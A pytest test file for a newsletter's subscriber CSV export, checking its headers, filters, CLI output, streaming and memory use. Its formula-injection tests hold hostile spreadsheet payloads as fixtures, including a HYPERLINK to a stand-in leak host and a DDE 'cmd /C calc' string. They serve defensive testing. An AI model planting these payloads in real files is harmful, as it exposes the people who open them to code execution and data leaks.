"""The subscriber export: the CSV an editor downloads, a script fetches, the CLI writes."""

import csv
import gc
import io
import os
import re
import shutil
import subprocess
import sys
import tracemalloc
import warnings
import zipfile
from datetime import UTC
from datetime import datetime
from pathlib import Path

import pytest
from sqlalchemy import create_engine
from sqlalchemy import insert
from sqlalchemy import text
from werkzeug.http import parse_options_header

from newsletter import newsletters
from newsletter.csv_export import stream_csv
from newsletter.db import database
from newsletter.models import Reader
from newsletter.models import Subscription
from newsletter.models import SubscriptionStatus
from tests.admin_steps import bearer
from tests.admin_steps import create_token
from tests.admin_steps import mailed_link
from tests.admin_steps import signed_in_client
from tests.conftest import missing_service
from tests.conftest import postgresql_only
from tests.reader import SLUG
from tests.reader import deliver
from tests.reader import sign_up
from tests.reader import subscriptions

EXPORT = f"/admin/newsletters/{SLUG}/subscribers.csv"
HEADER = (
    "email,status,newsletter,created_at,confirmed_at,unsubscribed_at,source,source_url,consent_ip,"
    "reader_id,complained_at"
)
BOM = b"\xef\xbb\xbf"
ARTICLE = "https://news.example.org/2026/explaining-ukraine?utm_source=a,b"

# Three readers, one in each status, each from their own network.
CONFIRMED = ("Alice.Reader@example.com", "203.0.113.1", None)
UNSUBSCRIBED = ("bohdan@example.com", "2001:db8::7", None)
PENDING = ("carol@example.com", "198.51.100.3", ARTICLE)


def signed_up(app, email: str, ip: str, referer: str | None = None, slug: str = SLUG) -> None:
    """A reader at ``ip`` signs up on the newsletter's page (coming from ``referer``), and
    the worker applies the signup."""
    client = app.test_client()
    client.environ_base["REMOTE_ADDR"] = ip
    headers = {"Referer": referer} if referer else {}
    assert sign_up(client, email, slug, **headers).status_code == 303
    deliver(app.test_cli_runner())


def three_readers(app, runner, mailbox) -> None:
    """Sign the three readers up; confirm two through their emails; one unsubscribes."""
    for email, ip, referer in (CONFIRMED, UNSUBSCRIBED, PENDING):
        signed_up(app, email, ip, referer)
    reader = app.test_client()
    for email, _, _ in (CONFIRMED, UNSUBSCRIBED):
        assert reader.post(mailed_link(mailbox, email, "/confirm/")).status_code == 303
    deliver(runner)
    unsubscribe = mailed_link(mailbox, UNSUBSCRIBED[0], "/unsubscribe/")
    assert reader.post(unsubscribe).status_code == 200


def parse(body: bytes) -> list[list[str]]:
    """The CSV as Python's csv module reads it (after the BOM), header row included."""
    assert body.startswith(BOM)
    return list(csv.reader(io.StringIO(body[len(BOM) :].decode("utf-8"), newline="")))


def records(body: bytes) -> list[dict[str, str]]:
    header, *rows = parse(body)
    assert all(len(row) == len(header) for row in rows)
    return [dict(zip(header, row, strict=True)) for row in rows]


def iso(moment: datetime | None) -> str:
    return f"{moment.astimezone(UTC):%Y-%m-%dT%H:%M:%SZ}" if moment else ""


def exported(client, query: str = "", **headers) -> bytes:
    response = client.get(EXPORT + query, headers=headers)
    assert response.status_code == 200, response.text
    return response.data


# --- The download --------------------------------------------------------------------------


def test_export_headers(app, runner, mailbox):
    three_readers(app, runner, mailbox)
    response = signed_in_client(app, runner).get(EXPORT)
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition, options = parse_options_header(response.headers["Content-Disposition"])
    assert disposition == "attachment"
    assert options["filename"].endswith(".csv")
    assert SLUG in options["filename"]
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_bom_header_row_and_crlf_line_ends(app, runner, mailbox):
    three_readers(app, runner, mailbox)
    body = exported(signed_in_client(app, runner))
    assert body.startswith(BOM + HEADER.encode() + b"\r\n")
    assert body.endswith(b"\r\n")
    lines = body.split(b"\r\n")
    assert len(lines) == 1 + 3 + 1  # header, three rows, nothing after the last CRLF
    assert all(b"\n" not in line and b"\r" not in line for line in lines)


def test_one_row_per_subscription_with_its_evidence(app, runner, mailbox):
    started = datetime.now(UTC).replace(microsecond=0)
    three_readers(app, runner, mailbox)
    finished = datetime.now(UTC)
    rows = records(exported(signed_in_client(app, runner)))

    stored = subscriptions(app)
    assert [row["email"] for row in rows] == [CONFIRMED[0], UNSUBSCRIBED[0], PENDING[0]]
    assert [row["email"] for row in rows] == [subscription.email for subscription in stored]
    assert [row["status"] for row in rows] == ["confirmed", "unsubscribed", "pending"]
    assert [row["consent_ip"] for row in rows] == [CONFIRMED[1], UNSUBSCRIBED[1], PENDING[1]]
    assert [row["source_url"] for row in rows] == ["", "", ARTICLE]
    assert {row["newsletter"] for row in rows} == {SLUG}
    assert {row["source"] for row in rows} == {"web"}
    for row, subscription in zip(rows, stored, strict=True):
        assert row["created_at"] == iso(subscription.created_at)
        assert row["confirmed_at"] == iso(subscription.confirmed_at)
        assert row["unsubscribed_at"] == iso(subscription.unsubscribed_at)
        for column in ("created_at", "confirmed_at", "unsubscribed_at"):
            if row[column]:
                assert row[column].endswith("Z")
                assert started <= datetime.fromisoformat(row[column]) <= finished

    confirmed, unsubscribed, pending = rows
    assert confirmed["confirmed_at"] and not confirmed["unsubscribed_at"]
    assert unsubscribed["confirmed_at"] and unsubscribed["unsubscribed_at"]
    assert not pending["confirmed_at"] and not pending["unsubscribed_at"]


def test_token_download_is_the_same_file(app, runner, mailbox):
    three_readers(app, runner, mailbox)
    _, secret = create_token(runner)
    by_session = exported(signed_in_client(app, runner))
    by_token = app.test_client().get(EXPORT, headers=bearer(secret))
    assert by_token.status_code == 200
    assert by_token.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert by_token.headers["Cache-Control"] == "no-store"
    assert by_token.data == by_session


@pytest.mark.parametrize(
    ("status", "expected"),
    [
        ("confirmed", [CONFIRMED[0]]),
        ("unsubscribed", [UNSUBSCRIBED[0]]),
        ("pending", [PENDING[0]]),
        ("", [CONFIRMED[0], UNSUBSCRIBED[0], PENDING[0]]),
    ],
)
def test_status_filter(app, runner, mailbox, status, expected):
    three_readers(app, runner, mailbox)
    rows = records(exported(signed_in_client(app, runner), f"?status={status}"))
    assert [row["email"] for row in rows] == expected
    assert all(row["status"] == status for row in rows if status)


@pytest.mark.parametrize("status", ["bogus", "CONFIRMED", "erased", "confirmed'--", "\x00"])
def test_unknown_status_is_400(app, runner, status):
    client = signed_in_client(app, runner)
    response = client.get(EXPORT, query_string={"status": status})
    assert response.status_code == 400
    assert "text/csv" not in response.content_type
    # Said the same way as the admin list's filter: one parser, one reason.
    _, secret = create_token(runner)
    script = app.test_client().get(EXPORT, query_string={"status": status}, headers=bearer(secret))
    assert (script.status_code, script.json["error"]) == (400, "unknown_status")


@pytest.mark.parametrize("slug", ["no-such-newsletter", "Not_A_Slug", "x" * 300])
def test_unknown_newsletter_is_404(app, runner, slug):
    _, secret = create_token(runner)
    path = f"/admin/newsletters/{slug}/subscribers.csv"
    assert signed_in_client(app, runner).get(path).status_code == 404
    assert app.test_client().get(path, headers=bearer(secret)).status_code == 404


def test_each_newsletter_exports_only_its_own_subscribers(app, runner, mailbox):
    created = runner.invoke(args=["newsletters", "create", "--slug", "other", "--name", "Other"])
    assert created.exit_code == 0, created.output
    signed_up(app, "reader@example.com", "192.0.2.1", slug="other")
    client = signed_in_client(app, runner)
    assert parse(exported(client)) == [HEADER.split(",")]
    other = client.get("/admin/newsletters/other/subscribers.csv")
    assert [row["email"] for row in records(other.data)] == ["reader@example.com"]
    assert [row["newsletter"] for row in records(other.data)] == ["other"]


def test_one_readers_rows_in_two_newsletters_share_their_reader_id(app, runner, mailbox):
    created = runner.invoke(args=["newsletters", "create", "--slug", "other", "--name", "Other"])
    assert created.exit_code == 0, created.output
    signed_up(app, "Reader@example.com", "192.0.2.1")
    signed_up(app, "reader@example.com", "192.0.2.2", slug="other")
    signed_up(app, "someone@example.com", "192.0.2.3", slug="other")
    client = signed_in_client(app, runner)
    [here] = records(exported(client))
    there, someone = records(client.get("/admin/newsletters/other/subscribers.csv").data)
    assert here["reader_id"] == there["reader_id"] != someone["reader_id"]
    assert here["email"] == there["email"] == "Reader@example.com"  # one spelling: the first


# --- Cells a spreadsheet would run -----------------------------------------------------------


def test_formula_cells_are_neutralised(app, runner):
    risky = [
        # (address, page the reader came from): all accepted by email-validator.
        ("=1+1@example.com", '=HYPERLINK("https://evil.example/?leak=1","Click, please")'),
        ("+1@example.com", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("-x@example.com", "+1+1"),
        ("=cmd|calc!A0@example.com", "-2+3"),
        ("safe@example.com", ARTICLE),
    ]
    for number, (email, referer) in enumerate(risky):
        signed_up(app, email, f"192.0.2.{number + 1}", referer)
    body = exported(signed_in_client(app, runner))

    assert [(row["email"], row["source_url"]) for row in records(body)] == [
        ("'=1+1@example.com", '\'=HYPERLINK("https://evil.example/?leak=1","Click, please")'),
        ("'+1@example.com", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("'-x@example.com", "'+1+1"),
        ("'=cmd|calc!A0@example.com", "'-2+3"),
        ("safe@example.com", ARTICLE),  # nothing to neutralise, nothing added
    ]
    # No cell of any row starts with a character a spreadsheet would evaluate.
    assert not [
        cell
        for row in parse(body)
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")
    ]


def stored_directly(app, cells: list[tuple[str, str, str]]) -> None:
    """Subscriptions with these (address, page, IP) cells straight into the table: no input
    lets a leading tab, CR or LF in today, but rows from an import or an older version may
    hold anything."""
    newsletter_id = seeded_newsletter(app).id
    now = datetime.now(UTC)
    insert_rows(
        app,
        [
            raw_row(newsletter_id, number, now, email=email, source_url=page, signup_ip=ip)
            for number, (email, page, ip) in enumerate(cells)
        ],
    )


def test_cells_starting_with_a_tab_cr_lf_or_spaces_are_neutralised(app, runner):
    stored_directly(
        app,
        [
            ("\t=1+1@example.com", "\r=1+1", "\n=1+1"),
            ("\r\n-1@example.com", "\n@SUM(1)", "\t+1"),
            ("spaces@example.com", " =1+1", "   +1+1"),
            ("more@example.com", "  @SUM(1)", " -1"),
            ("safe@example.com", " https://news.example.org/", "192.0.2.1"),
        ],
    )
    body = exported(signed_in_client(app, runner))
    assert [(row["email"], row["source_url"], row["consent_ip"]) for row in records(body)] == [
        ("'\t=1+1@example.com", "'\r=1+1", "'\n=1+1"),
        ("'\r\n-1@example.com", "'\n@SUM(1)", "'\t+1"),
        ("spaces@example.com", "' =1+1", "'   +1+1"),
        ("more@example.com", "'  @SUM(1)", "' -1"),
        ("safe@example.com", " https://news.example.org/", "192.0.2.1"),
    ]


# Pages a reader's script may claim to come from (the API takes any source_url): each is
# shown as text by LibreOffice, or run as a formula when the apostrophe is missing.
RISKY_PAGES = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    " =1+1",
    '   =HYPERLINK("https://evil.example/?leak=1";"Click")',
    "\u00a0=1+1",  # no-break space
    "\u3000=1+1",  # ideographic space
    "\uff1d1+1",  # fullwidth equals sign
    '\uff1dHYPERLINK("https://evil.example/?leak=1";"Click")',
    "\uff0b1+1",  # fullwidth plus sign
    "\uff0d1+1",  # fullwidth hyphen-minus
    "\uff20SUM(1;1)",  # fullwidth commercial at
]
# LibreOffice's CSV import options, the most trusting a person can tick in its dialog:
# comma, double quotes, UTF-8 (76), from line 1, standard formats, default language, quoted
# fields not forced to text, special numbers detected, (two export-only options), spaces
# trimmed, (export-only), formulas evaluated.
LIBREOFFICE_CSV_IMPORT = "CSV:44,34,76,1,,0,false,true,false,false,true,-1,true"


def test_libreoffice_runs_no_cell_of_the_export(app, runner, client, tmp_path):
    """Real LibreOffice opens the CSV: every risky cell comes out as text, none as a formula."""
    soffice = shutil.which("soffice")
    if soffice is None:
        missing_service("LibreOffice (soffice) is not installed: apt-get install libreoffice-calc")
    for number, page in enumerate(RISKY_PAGES):
        body = {"email": f"reader{number}@example.com", "source_url": page}
        response = client.post(f"/api/v1/newsletters/{SLUG}/subscriptions", json=body)
        assert response.status_code == 202, response.text
    deliver(runner)  # the worker applies the recorded signups
    stored_directly(app, [("\t=1+1@example.com", "\r=1+1", "\n=1+1")])
    exported_csv = tmp_path / "subscribers.csv"
    exported_csv.write_bytes(exported(signed_in_client(app, runner)))

    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",  # none shared, no lock
            "--headless",
            f"--infilter={LIBREOFFICE_CSV_IMPORT}",
            "--convert-to",
            "ods",
            "--outdir",
            str(tmp_path),
            str(exported_csv),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    content = zipfile.ZipFile(tmp_path / "subscribers.ods").read("content.xml").decode()
    assert content.count("<table:table-row") >= 1 + len(RISKY_PAGES) + 1  # it read every row
    assert "HYPERLINK" in content
    assert re.findall(r'table:formula="([^"]*)"', content) == []


def test_internationalised_address_is_exported_intact_in_utf8(app, runner):
    signed_up(app, "кирило@приклад.укр", "192.0.2.44", "https://приклад.укр/стаття")
    response = signed_in_client(app, runner).get(EXPORT)
    assert "кирило@приклад.укр".encode() in response.data
    [row] = records(response.data)
    assert row["email"] == "кирило@приклад.укр"
    assert row["source_url"] == "https://приклад.укр/стаття"


# --- The command line ----------------------------------------------------------------------


@pytest.mark.parametrize("status", [None, "confirmed", "pending"])
def test_cli_export_writes_the_same_bytes_as_the_download(app, runner, mailbox, tmp_path, status):
    three_readers(app, runner, mailbox)
    query = f"?status={status}" if status else ""
    options = ["--status", status] if status else []
    downloaded = exported(signed_in_client(app, runner), query)

    path = tmp_path / "subscribers.csv"
    result = runner.invoke(args=["export", "--newsletter", SLUG, *options, "-o", str(path)])
    assert result.exit_code == 0, result.output
    assert path.read_bytes() == downloaded
    assert result.output == ""  # not a terminal: no progress, nothing else

    to_stdout = runner.invoke(args=["export", "--newsletter", SLUG, *options])
    assert to_stdout.exit_code == 0
    assert to_stdout.stdout_bytes == downloaded
    assert to_stdout.stderr == ""


def test_cli_export_of_an_unknown_newsletter_fails_cleanly(app, runner, tmp_path):
    path = tmp_path / "subscribers.csv"
    result = runner.invoke(args=["export", "--newsletter", "no-such-thing", "-o", str(path)])
    assert result.exit_code == 1
    assert "no newsletter with the slug 'no-such-thing'" in result.output
    assert "Traceback" not in result.output
    assert not path.exists()


def test_cli_export_refuses_an_unknown_status(app, runner):
    result = runner.invoke(args=["export", "--newsletter", SLUG, "--status", "erased"])
    assert result.exit_code == 2
    assert "--status" in result.output


def test_cli_export_shows_progress_on_a_terminal(app, runner, mailbox, settings, tmp_path):
    """The real console script, its standard error on a pseudo-terminal."""
    three_readers(app, runner, mailbox)
    downloaded = exported(signed_in_client(app, runner))
    path = tmp_path / "from-terminal.csv"
    inherited = {name: value for name, value in os.environ.items() if "NEWSLETTER" not in name}
    environment = inherited | {
        "NEWSLETTER_DATABASE_URL": settings["DATABASE_URL"],
        "NEWSLETTER_SECRET_KEY": settings["SECRET_KEY"],
        "NEWSLETTER_INSTANCE_PATH": str(tmp_path / "cli-instance"),
    }
    command = [Path(sys.executable).with_name("newsletter"), "export", "--newsletter", SLUG]
    terminal, terminal_side = os.openpty()
    try:
        with subprocess.Popen(
            [*command, "-o", str(path)],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=terminal_side,
            env=environment,
        ) as finished:
            os.close(terminal_side)  # the command holds the only other end now
            shown = read_all(terminal)  # until the command exits and the end closes
            finished.wait(timeout=60)
    finally:
        os.close(terminal)
    assert finished.returncode == 0, shown
    assert path.read_bytes() == downloaded
    assert "Rows" in shown
    assert "3/3" in shown


def read_all(descriptor: int) -> str:
    """Everything written to a pseudo-terminal whose other side is closed."""
    chunks = []
    while True:
        try:
            chunk = os.read(descriptor, 4096)
        except OSError:  # EIO: the writing side is gone
            break
        if not chunk:
            break
        chunks.append(chunk)
    return b"".join(chunks).decode("utf-8", "replace")


# --- Constant memory ---------------------------------------------------------------------


def add_subscriptions(app, newsletter_id: int, start: int, stop: int) -> None:
    """Rows ``start``…``stop - 1`` straight into the table (not the signup path), fast."""
    now = datetime.now(UTC)
    statuses = list(SubscriptionStatus)
    for first in range(start, stop, 10_000):
        rows = [
            raw_row(
                newsletter_id,
                number,
                now,
                status=statuses[number % len(statuses)],
                source_url=f"https://news.example.org/article/{number}",
                confirmed_at=now if number % len(statuses) else None,
            )
            for number in range(first, min(first + 10_000, stop))
        ]
        insert_rows(app, rows)


def raw_row(newsletter_id: int, number: int, now: datetime, **cells) -> dict:
    """A subscription row as the table takes it, with its reader's ``email`` (which
    :func:`insert_rows` moves to the reader); ``cells`` replace the defaults."""
    return {
        "newsletter_id": newsletter_id,
        "public_id": f"p{number}",
        "email": cells.pop("email", f"reader{number}@example.com"),
        "status": SubscriptionStatus.PENDING,
        "created_at": now,
        "signup_at": now,
        "source": "web",
        "signup_ip": "192.0.2.1",
        "confirmation_round": 1,
        **cells,
    }


def insert_rows(app, rows: list[dict]) -> None:
    """A reader per row (each a new address), then the rows, pointing at their readers."""
    emails = [row.pop("email") for row in rows]
    readers = [{"email": email, "email_key": email.lower()} for email in emails]
    with app.app_context(), database(app).transaction() as session:
        # Core, not ORM: the table's INSERT with many parameter sets, batched by the driver.
        reader_ids = session.scalars(
            insert(Reader.__table__).returning(Reader.__table__.c.id, sort_by_parameter_order=True),
            readers,
        ).all()
        for row, reader_id in zip(rows, reader_ids, strict=True):
            row["reader_id"] = reader_id
        session.execute(insert(Subscription.__table__), rows)


def seeded_newsletter(app):
    with app.app_context(), database(app).transaction() as session:
        return newsletters.get_by_slug(session, SLUG)


def traced_peak(engine, newsletter) -> tuple[int, int]:
    """The traced peak of Python memory while the whole export is consumed, and its rows."""
    tracemalloc.start()
    try:
        lines = sum(chunk.count("\r\n") for chunk in stream_csv(engine, newsletter))
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    return peak, lines - 1


@pytest.mark.slow
def test_export_memory_does_not_grow_with_the_row_count(app, database_url):
    newsletter = seeded_newsletter(app)
    engine = database(app).engine

    add_subscriptions(app, newsletter.id, 0, 20_000)
    for _ in stream_csv(engine, newsletter):  # warm up: compiled statements, pool, caches
        pass
    small_peak, small_rows = traced_peak(engine, newsletter)

    add_subscriptions(app, newsletter.id, 20_000, 200_000)
    large_peak, large_rows = traced_peak(engine, newsletter)

    backend = database_url.split(":", 1)[0]
    print(
        f"\nexport peak on {backend}: {small_rows:,} rows {small_peak / 2**20:.2f} MiB, "
        f"{large_rows:,} rows {large_peak / 2**20:.2f} MiB"
    )
    assert (small_rows, large_rows) == (20_000, 200_000)
    # Ten times the rows; a list in memory would take ten times the memory.
    assert large_peak < 2 * small_peak + 512 * 1024


@postgresql_only  # SQLite steps through its rows in place; there is no server to ask
def test_postgresql_export_streams_the_servers_own_csv(app, database_url):
    """On PostgreSQL the server writes the CSV (``COPY … TO STDOUT``) while the export
    reads it piece by piece; a download abandoned half-way cancels it and frees the
    connection."""
    newsletter = seeded_newsletter(app)
    add_subscriptions(app, newsletter.id, 0, 10_000)
    chunks = stream_csv(database(app).engine, newsletter)
    observer = create_engine(database_url)
    try:
        assert next(chunks).startswith("\ufeffemail,")
        first_batch = next(chunks)
        with observer.connect() as connection:
            queries = connection.scalars(
                text(
                    "SELECT query FROM pg_stat_activity "
                    "WHERE datname = current_database() AND pid <> pg_backend_pid()"
                )
            ).all()
        assert any(query.startswith("COPY (SELECT") for query in queries), queries
        rest = sum(chunk.count("\r\n") for chunk in chunks)
        assert first_batch.count("\r\n") + rest == 10_000
        abandoned = stream_csv(database(app).engine, newsletter)
        next(abandoned)
        next(abandoned)
        abandoned.close()
        again = stream_csv(database(app).engine, newsletter)
        assert sum(chunk.count("\r\n") for chunk in again) == 10_001  # the header too
    finally:
        chunks.close()
        observer.dispose()


def test_abandoned_download_gives_back_its_cursor_and_connection(app, runner):
    """A client that hangs up mid-download leaves no open cursor or connection behind."""
    newsletter = seeded_newsletter(app)
    add_subscriptions(app, newsletter.id, 0, 10_000)
    client = signed_in_client(app, runner)
    engine = database(app).engine

    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        response = client.get(EXPORT, buffered=False)
        assert response.status_code == 200
        stream = iter(response.response)
        assert next(stream).startswith(BOM)
        next(stream)  # the first batch: the cursor is open now, more rows wait
        response.close()  # the client hangs up
        del stream, response
        gc.collect()
    assert [str(warning.message) for warning in caught] == []
    assert engine.pool.checkedout() == 0
